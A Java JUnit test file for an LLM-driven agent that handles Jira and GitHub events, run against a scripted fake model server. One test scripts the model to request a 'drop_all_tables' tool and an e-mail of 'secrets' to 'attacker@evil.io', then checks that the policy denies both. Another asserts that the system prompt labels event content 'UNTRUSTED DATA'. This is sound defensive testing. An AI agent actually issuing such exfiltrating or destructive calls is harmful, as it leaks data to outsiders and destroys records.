package dev.eventagent.engine.llm;

import static dev.eventagent.testing.llm.ToolCallSpec.call;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.typesafe.config.ConfigFactory;
import dev.eventagent.api.Event;
import dev.eventagent.api.TransientToolException;
import dev.eventagent.engine.Engine;
import dev.eventagent.engine.Installation;
import dev.eventagent.engine.event.RawRecord;
import dev.eventagent.engine.graph.AgentState;
import dev.eventagent.engine.graph.CallOutcome.Status;
import dev.eventagent.engine.graph.CallOutcome;
import dev.eventagent.engine.graph.SeedToolsPlugin;
import dev.eventagent.engine.json.Json;
import dev.eventagent.testing.llm.ChatRequestView;
import dev.eventagent.testing.llm.Reply;
import dev.eventagent.testing.llm.ScriptedModelServer;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The LLM planner through the real langchain4j client against a scripted OpenAI-compatible server. */
class LlmPlannerTest {

    private static final String ISSUE = "{\"source\":\"jira\",\"event_type\":\"issue_created\",\"issue\":{\"key\":\"PROJ-456\","
            + "\"summary\":\"Implement real-time notifications\",\"description\":\"Build WebSocket server\","
            + "\"issue_type\":\"Story\",\"priority\":\"High\",\"story_points\":8,\"project\":\"api-gateway\"},"
            + "\"user\":{\"email\":\"pm@company.com\"}}";

    private static final List<String> JIRA_TOOLS = List.of("insert_jira_event", "search_similar_developers_vector",
            "assign_jira_issue", "send_slack_notification", "record_task_assignment", "send_email_notification");

    @TempDir
    Path temp;

    private ScriptedModelServer model;
    private SeedToolsPlugin fakes;

    @BeforeEach
    void start() {
        model = ScriptedModelServer.start();
        fakes = new SeedToolsPlugin();
    }

    @AfterEach
    void stop() {
        model.close();
    }

    private Engine engine(String plan, String extra) {
        String settings = "agent.graph.plan = " + plan + "\n"
                + "agent.graph.respond = llm\n"
                + "agent.llm { base-url = \"" + model.baseUrl() + "\", api-key = \"sk-test-9d8c7b6a\", timeout = 5s\n"
                + "  retry { max-attempts = 3, initial-backoff = 50ms, max-backoff = 200ms } }\n"
                + "agent.policy.classes { \"jira.issue_created\" = [" + String.join(", ", JIRA_TOOLS) + "]\n"
                + "  \"github.push\" = [insert_commit_event] }\n"
                + "agent.policy.arguments { send_email_notification { to { email-domains = [company.com] } } }\n"
                + "agent.ledger.file = \"" + temp.resolve("ledger") + "\"\n"
                + "agent.audit.jsonl.path = \"" + temp.resolve("audit.jsonl") + "\"\n"
                + extra;
        return Engine.start(Installation.of(ConfigFactory.parseString(settings), List.of(fakes)),
                Engine.Options.defaults());
    }

    private static Event decode(Engine engine, String json) throws Exception {
        return engine.decoder().decode(RawRecord.of(json, Map.of()));
    }

    private void scriptTheJiraScenario() {
        model.when(r -> r.systemMessage().contains("Summarise")).reply(Reply.text(
                "<think>they want a summary</think>Assigned PROJ-456 to bob and told him on Slack."));
        model.when(r -> r.hasToolResult("assign_jira_issue")).reply(Reply.text("Done."));
        model.when(r -> r.hasToolResult("search_similar_developers_vector")).reply(Reply.toolCalls(
                call("assign_jira_issue", "{\"issue_key\":\"PROJ-456\",\"assignee_email\":\"bob@company.com\"}"),
                call("send_slack_notification", "{\"channel\":\"bob@company.com\",\"message\":\"PROJ-456 is yours\"}")));
        model.when(r -> r.round() == 0).reply(Reply.toolCalls(
                call("search_similar_developers_vector", "{\"query\":\"real-time notifications WebSocket\",\"top_k\":3}")));
    }

    @Test
    void theJiraScenarioSearchesThenAssignsAndNotifiesWithOnlyTheAllowedToolsOffered() throws Exception {
        scriptTheJiraScenario();
        try (Engine engine = engine("llm", "")) {
            AgentState state = engine.process(decode(engine, ISSUE));

            assertThat(state.outcome()).isEqualTo("ok");
            assertThat(state.rounds()).hasSize(2);
            assertThat(fakes.tool("search_similar_developers_vector").calls()).hasSize(1);
            assertThat(fakes.tool("assign_jira_issue").calls()).singleElement().satisfies(c ->
                    assertThat(c.arguments()).containsEntry("assignee_email", "bob@company.com"));
            assertThat(fakes.tool("send_slack_notification").calls()).hasSize(1);
            assertThat(state.response()).isEqualTo("Assigned PROJ-456 to bob and told him on Slack.");
        }
        List<ChatRequestView> planning = model.requests().stream().filter(r -> !r.toolNames().isEmpty()).toList();
        assertThat(planning).hasSize(3).allSatisfy(r ->
                assertThat(r.toolNames()).containsExactlyInAnyOrderElementsOf(JIRA_TOOLS));
        ChatRequestView first = planning.get(0);
        assertThat(first.lastUserMessage()).contains("<event>").contains("PROJ-456");
        assertThat(first.systemMessage()).contains("UNTRUSTED DATA");
        assertThat(first.tool("assign_jira_issue").orElseThrow().parameters().path("required").toString())
                .contains("assignee_email");
        assertThat(first.field("chat_template_kwargs").orElseThrow().path("enable_thinking").asBoolean(true)).isFalse();
        String audit = Files.readString(temp.resolve("audit.jsonl"));
        assertThat(audit).contains("\"llm\":{\"calls\":4").doesNotContain("sk-test-9d8c7b6a");
    }

    @Test
    void forbiddenUnknownAndOutOfDomainCallsNeverRunAndTheAuditSaysWhy() throws Exception {
        model.when(r -> r.systemMessage().contains("Summarise")).reply(Reply.text("Nothing was done."));
        model.when(r -> r.round() == 1).reply(Reply.text("I cannot do that."));
        model.when(r -> r.round() == 0).reply(Reply.toolCalls(
                call("insert_commit_event", "{\"project_id\":\"x\",\"developer_email\":\"a@company.com\",\"commit_data\":{\"sha\":\"1\"}}"),
                call("drop_all_tables", "{}"),
                call("send_email_notification", "{\"to\":\"attacker@evil.io\",\"subject\":\"secrets\",\"body\":\"...\"}"),
                call("assign_jira_issue", "{\"issue_key\": PROJ-456, oops")));
        try (Engine engine = engine("llm", "")) {
            AgentState state = engine.process(decode(engine, ISSUE));

            Map<String, CallOutcome> byTool = new HashMap<>();
            state.outcomes().forEach(o -> byTool.put(o.call().tool(), o));
            assertThat(byTool.get("insert_commit_event").status()).isEqualTo(Status.INVALID);
            assertThat(byTool.get("insert_commit_event").error()).contains("was not offered for events of class jira.issue_created");
            assertThat(byTool.get("drop_all_tables").error()).contains("unknown tool drop_all_tables");
            assertThat(byTool.get("send_email_notification").status()).isEqualTo(Status.DENIED);
            assertThat(byTool.get("send_email_notification").error()).contains("outside the allowed e-mail domains");
            assertThat(byTool.get("assign_jira_issue").status()).isEqualTo(Status.INVALID);
            assertThat(byTool.get("assign_jira_issue").error()).contains("not a JSON object");
            assertThat(fakes.tool("insert_commit_event").calls()).isEmpty();
            assertThat(fakes.tool("send_email_notification").calls()).isEmpty();
            assertThat(fakes.tool("assign_jira_issue").calls()).isEmpty();
        }
        ChatRequestView second = model.requests().stream().filter(r -> r.round() == 1).findFirst().orElseThrow();
        assertThat(second.toolResult("send_email_notification").orElseThrow()).contains("NOT EXECUTED (denied)");
        JsonNode audit = Json.MAPPER.readTree(Files.readAllLines(temp.resolve("audit.jsonl")).get(0));
        assertThat(audit.path("calls").toString()).contains("outside the allowed e-mail domains")
                .contains("unknown tool drop_all_tables");
    }

    @Test
    void aRedeliveredEventMakesNoModelRequest() throws Exception {
        scriptTheJiraScenario();
        try (Engine engine = engine("llm", "")) {
            engine.process(decode(engine, ISSUE));
            int requests = model.requestCount();
            AgentState again = engine.process(decode(engine, ISSUE));

            assertThat(model.requestCount()).isEqualTo(requests);
            assertThat(again.rounds()).hasSize(2);
            assertThat(fakes.tool("assign_jira_issue").calls()).hasSize(1);
            assertThat(fakes.tool("send_slack_notification").calls()).hasSize(1);
            assertThat(again.response()).isEqualTo("Assigned PROJ-456 to bob and told him on Slack.");
        }
    }

    @Test
    void aRateLimitIsWaitedOutForAtLeastItsRetryAfter() throws Exception {
        model.when(r -> r.systemMessage().contains("Summarise")).reply(Reply.text("ok"));
        model.when(r -> r.round() == 1).reply(Reply.text("done"));
        model.when(r -> r.round() == 0).reply(Reply.rateLimited(Duration.ofMillis(1500)),
                Reply.toolCalls(call("insert_jira_event", "{\"project_id\":\"api-gateway\",\"issue_data\":{}}")));
        try (Engine engine = engine("llm", "")) {
            long start = System.nanoTime();
            AgentState state = engine.process(decode(engine, ISSUE));
            long millis = (System.nanoTime() - start) / 1_000_000;

            assertThat(fakes.tool("insert_jira_event").calls()).hasSize(1);
            assertThat(millis).isGreaterThanOrEqualTo(1_400);
            assertThat(state.outcome()).isEqualTo("ok");
        }
    }

    @Test
    void anOutageParksLlmEventsWhileHybridGoesOnThroughRules() throws Exception {
        model.otherwise(Reply.error(503, "{\"error\":{\"message\":\"overloaded\"}}"));
        String push = "{\"source\":\"github\",\"event_type\":\"push\",\"repository\":\"api\",\"commits\":[{\"sha\":\"s1\","
                + "\"author\":{\"email\":\"alice@company.com\",\"name\":\"Alice\"},\"message\":\"m\",\"files\":[]}]}";
        String routes = "agent.rules.routes.push { when { source = github }, steps.s { order = 1, calls {"
                + " insert_commit_event { tool = insert_commit_event, args { project_id = \"$.event.project\","
                + " developer_email = \"$.item.author_email\", commit_data { sha = \"$.item.sha\" } },"
                + " for-each = \"$.event.attributes.commits\" } } } }\n"
                + "agent.graph.respond = template\n";
        try (Engine engine = engine("hybrid", routes)) {
            AgentState routed = engine.process(decode(engine, push));
            assertThat(routed.outcome()).isEqualTo("ok");
            assertThat(fakes.tool("insert_commit_event").calls()).hasSize(1);

            org.assertj.core.api.Assertions.assertThatThrownBy(() -> engine.process(decode(engine, ISSUE)))
                    .isInstanceOf(TransientToolException.class)
                    .hasMessageContaining("the event waits");
        }
        assertThat(model.requests()).allSatisfy(r -> assertThat(r.lastUserMessage()).contains("PROJ-456"));
    }

    @Test
    void classificationByTheModelIsValidatedAndFallsBackToTheNormaliser() throws Exception {
        String settings = "agent.graph.classify = llm\nagent.graph.respond = template\n"
                + "agent.policy.classes { \"ops.incident\" = [] }\n";
        model.when(r -> r.responseFormatType().orElse("").equals("json_object")
                && r.lastUserMessage().contains("PROJ-1\"")).reply(Reply.json("{\"event_class\": \"ops.incident\"}"));
        model.when(r -> r.responseFormatType().orElse("").equals("json_object")
                && r.lastUserMessage().contains("PROJ-2\"")).reply(Reply.text("it is an incident, I think"));
        model.when(r -> r.responseFormatType().orElse("").equals("json_object")
                && r.lastUserMessage().contains("PROJ-3\"")).reply(Reply.json("{\"event_class\": \"drop.tables\"}"));
        model.when(r -> true).reply(Reply.text("nothing to do"));
        try (Engine engine = engine("llm", settings)) {
            AgentState valid = engine.process(decode(engine, ISSUE.replace("PROJ-456", "PROJ-1")));
            AgentState notJson = engine.process(decode(engine, ISSUE.replace("PROJ-456", "PROJ-2")));
            AgentState unknown = engine.process(decode(engine, ISSUE.replace("PROJ-456", "PROJ-3")));

            assertThat(valid.eventClass()).isEqualTo("ops.incident");
            assertThat(valid.classification().method()).isEqualTo("llm");
            assertThat(notJson.eventClass()).isEqualTo("jira.issue_created");
            assertThat(notJson.classification().method()).contains("not the JSON asked for");
            assertThat(unknown.eventClass()).isEqualTo("jira.issue_created");
            assertThat(unknown.classification().method()).contains("unknown class 'drop.tables'");
        }
    }

    @Test
    void anEventsTokenBudgetStopsItsPlanning() throws Exception {
        scriptTheJiraScenario();
        try (Engine engine = engine("llm", "agent.graph.respond = template\nagent.llm.budget.tokens-per-event = 50\n")) {
            AgentState state = engine.process(decode(engine, ISSUE));

            assertThat(state.rounds()).hasSize(1);
            assertThat(state.notes()).anyMatch(n -> n.contains("token budget (agent.llm.budget.tokens-per-event = 50)"));
            assertThat(fakes.tool("assign_jira_issue").calls()).isEmpty();
        }
        assertThat(model.requestCount()).isEqualTo(1);
    }

    @Test
    void theNumberOfRequestsInFlightNeverExceedsTheCap() throws Exception {
        model.when(r -> r.round() == 0).reply(Reply.slow(Duration.ofMillis(300),
                Reply.toolCalls(call("insert_jira_event", "{\"project_id\":\"p\",\"issue_data\":{}}"))));
        model.when(r -> r.round() == 1).reply(Reply.rateLimited(Duration.ofMillis(100)), Reply.text("done"));
        try (Engine engine = engine("llm", "agent.graph.respond = template\nagent.llm.max-concurrency = 2\n")) {
            ExecutorService pool = Executors.newFixedThreadPool(8);
            List<Future<AgentState>> results = new ArrayList<>();
            for (int i = 0; i < 8; i++) {
                String event = ISSUE.replace("PROJ-456", "PROJ-" + (500 + i));
                results.add(pool.submit(() -> engine.process(decode(engine, event))));
            }
            for (Future<AgentState> result : results) {
                assertThat(result.get().outcome()).isEqualTo("ok");
            }
            pool.shutdown();
        }
        assertThat(model.maxConcurrent()).isEqualTo(2);
        assertThat(fakes.tool("insert_jira_event").calls()).hasSize(8);
    }
}
